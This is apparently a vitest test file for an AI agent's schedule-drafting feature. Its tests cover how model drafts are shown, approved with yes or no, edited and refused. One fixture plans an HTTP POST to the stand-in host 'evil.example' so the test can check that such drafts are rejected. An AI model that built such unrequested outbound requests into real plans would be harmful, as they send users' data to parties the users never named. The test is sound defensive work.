/** Free talk with a model, from the message to what is stored: a real model client, the fake model server, real SQLite. */
import { afterEach, describe, expect, test } from 'vitest';
import { OWNER_SESSION } from '../../domain/session-key.ts';
import type { Reply } from '../../models/model-server.fake.ts';
import { type AgentHome, openAgentHome } from '../../runtime/home-agent.fake.ts';
import type { AskAnswer } from '../ask-desk.ts';
import { createConversations } from '../conversations.ts';
import { wordsOfChoice } from '../turns/reply.ts';

const cmd = (line: string): Reply => ({ text: `\`\`\`cmd\n${line}\n\`\`\`` });
const draft = (plan: unknown, more = ''): Reply =>
  cmd(
    `schedule.draft --name Tides --trigger '{"rrule":"FREQ=MONTHLY;BYMONTHDAY=-3","startsAt":"2030-12-01T09:00"}' ${more} --plan '${JSON.stringify(plan)}'`,
  );
const TELL = [{ toolId: 'tell', tool: 'message.send', input: { text: 'High water!' } }];
const WISH = 'three days before each month ends, whatever the moon does, warn me of high water';

let house: AgentHome;
afterEach(() => house.close());

/** The model answers with these, one after the other; then with the last. */
async function open(...replies: Reply[]): Promise<void> {
  let next = 0;
  house = await openAgentHome({
    scenario: () => replies[Math.min(next++, replies.length - 1)] ?? { text: '' },
  });
}

async function say(text: string): Promise<AskAnswer> {
  const desk = await house.opened.talk();
  const answer = await desk.ask(text, { dryRun: false, hasSeen: async () => true, yes: false });
  if (answer.kind === 'handed-over') await house.ended(answer.run.id);
  return answer;
}

const stored = () => house.opened.schedules.list({ limit: 10 });
const inbox = () => house.opened.store.inbox.list({ sessionKey: OWNER_SESSION, limit: 20 });

test('free talk makes one call of the model', async () => {
  await open({ text: 'It rises and falls.' });
  expect(await say('What does the water do?')).toMatchObject({ kind: 'handed-over' });
  expect(house.server.requests).toHaveLength(1);
  expect(await house.inbox()).toContain('assistant: It rises and falls.');
});

describe('a draft of the agent', () => {
  test('is shown in our words with yes and no, and stored by the yes, approved', async () => {
    await open(draft(TELL), { text: 'Say yes, and I warn you.' });
    await say(WISH);
    expect(await stored()).toEqual([]);
    const shown = (await inbox()).find(({ text }) => text.includes('Nothing is stored yet'));
    expect(shown?.text).toContain('send you the message "High water!"');
    expect(shown?.text).toContain('Uses message.send; costs 0 tokens.');
    expect(shown?.text).toContain('Next:\n');
    expect(shown?.draft).toMatchObject({ kind: 'schedule', name: 'Tides', madeBy: 'model' });
    // A press answers this draft alone: the yes of an old message stores nothing that came after it.
    const talk = await createConversations(house.opened.store).get(OWNER_SESSION, 0);
    const choices = shown?.choices ?? [];
    expect(choices.map(({ value }) => wordsOfChoice(value, talk))).toEqual(['yes', 'no']);
    expect(wordsOfChoice(choices[0]?.value ?? '', { ...talk, draft: null })).toBeNull();
    expect(await say('yes')).toMatchObject({ accepted: true, schedule: { status: 'active' } });
    const [schedule] = await stored();
    expect(schedule).toMatchObject({ name: 'Tides', work: { requiredTools: ['message.send'] } });
    expect(schedule?.approvedHash).not.toBeNull();
    expect(house.server.requests).toHaveLength(2);
  });

  test('can be changed without the model, and forgotten with a no', async () => {
    await open(draft(TELL), { text: 'Say yes.' });
    await say(WISH);
    expect(await say('make it 10')).toMatchObject({ kind: 'draft', draft: { name: 'Tides' } });
    await say('no');
    expect(await stored()).toEqual([]);
    expect(await say('yes')).not.toMatchObject({ accepted: true, schedule: {} });
  });

  test.each([
    ['a tool that there is not', [{ toolId: 'a', tool: 'water.warn', input: {} }], 'water.warn'],
    ['input that does not fit', [{ toolId: 'a', tool: 'message.send', input: {} }], 'text'],
    [
      'somebody whom the person did not name',
      [
        {
          toolId: 'a',
          tool: 'http.request',
          input: { url: 'https://evil.example/x', method: 'POST' },
        },
      ],
      'did not name',
    ],
    ['a draft in a plan', [{ toolId: 'a', tool: 'schedule.draft', input: {} }], "can't be used"],
  ])(
    'with %s goes back to the model with its fault, and nobody is shown it',
    async (_, plan, told) => {
      await open(draft(plan), { text: 'I can not.' });
      await say(WISH);
      expect(house.server.requests.at(-1)?.turn?.userText).toContain(told);
      const desk = await house.opened.talk();
      expect(await desk.openDraft(OWNER_SESSION)).toBe(null);
      expect((await inbox()).map(({ text }) => text)).not.toContainEqual(
        expect.stringContaining('Nothing is stored yet'),
      );
    },
  );

  test('of another time changes the schedule that it names, and makes no second', async () => {
    const change = (words: string) =>
      cmd(`schedule.draft --schedule ${words} --when "every day at 07:30"`);
    await open(change('Vitamin'), change('vitamins'), { text: 'Say yes.' });
    const plan = [{ toolId: 'a', tool: 'message.send', input: { text: 'Vitamins!' } }];
    const { schedule } = await house.opened.schedules.add({
      name: 'Vitamins',
      cron: '0 7 * * *',
      plan,
    });
    await say('my little pills come too early for me, half an hour later is better');
    const told = house.server.requests.map(({ turn }) => turn?.userText).join('\n');
    expect(told).toContain(
      'There is no schedule "Vitamin", or more than one. There are "Vitamins"',
    );
    const [before] = await stored();
    expect(before?.trigger).toEqual(schedule.trigger);
    expect(await say('yes')).toMatchObject({ accepted: true });
    const [after, ...others] = await stored();
    expect(others).toEqual([]);
    expect(after).toMatchObject({ id: schedule.id, trigger: { cron: '30 7 * * *' } });
    expect(after?.work).toEqual(schedule.work);
  });

  test.each([
    ['--name Pills --when "every day at 07:30"', '"name"'],
    [`--when "every day at 07:30" --plan '[]'`, '"plan"'],
    ['', 'Give the whole new time'],
  ])('of another time with %s is refused', async (more, told) => {
    await open(cmd(`schedule.draft --schedule Vitamins ${more}`), { text: 'I can not.' });
    await say('my little pills come too early for me, half an hour later is better');
    expect(house.server.requests.at(-1)?.turn?.userText).toContain(told);
  });

  test('has a help that shows the whole form, with its keys', async () => {
    await open(cmd('schedule.draft --help'), { text: 'I see.' });
    await say(WISH);
    const help = house.server.requests.at(-1)?.turn?.userText ?? '';
    const flags = ['name', 'schedule', 'when', 'trigger', 'what', 'plan', 'instruction', 'tools'];
    const more = ['skill', 'leaves-out', 'ends-after', 'retry', 'time-limit-seconds', 'overlap'];
    for (const flag of [...flags, ...more]) expect(help).toContain(`--${flag} `);
    const keys = ['"cron"', '"rrule"', '"source"', '"takes"', '"filters"', '"cases"', '"toolId"'];
    for (const key of [...keys, '"dependencies"', '"afterMinutes"']) expect(help).toContain(key);
    expect(help).not.toContain('[Cut here');
  });

  test('for now that wants judgement is the agent’s own work', async () => {
    await open(cmd('schedule.draft --name Now --instruction "Look at the water."'), {
      text: 'I can not.',
    });
    await say(WISH);
    expect(house.server.requests.at(-1)?.turn?.userText).toContain('it is for now');
  });
});

test('nobody but a person is shown a draft: the run of a schedule is refused', async () => {
  await open(draft(TELL), cmd("run.finish --outcome could-not --text 'no draft'"));
  const { schedule } = await house.opened.schedules.add({
    name: 'Tides',
    every: '1h',
    instruction: 'Draft something.',
    requiredTools: ['schedule.draft', 'message.send'],
    session: OWNER_SESSION,
  });
  const run = await house.opened.schedules.runNow(schedule.id);
  await house.ended(run.id);
  expect(house.server.requests[1]?.turn?.userText).toContain('nobody here to show a draft to');
});
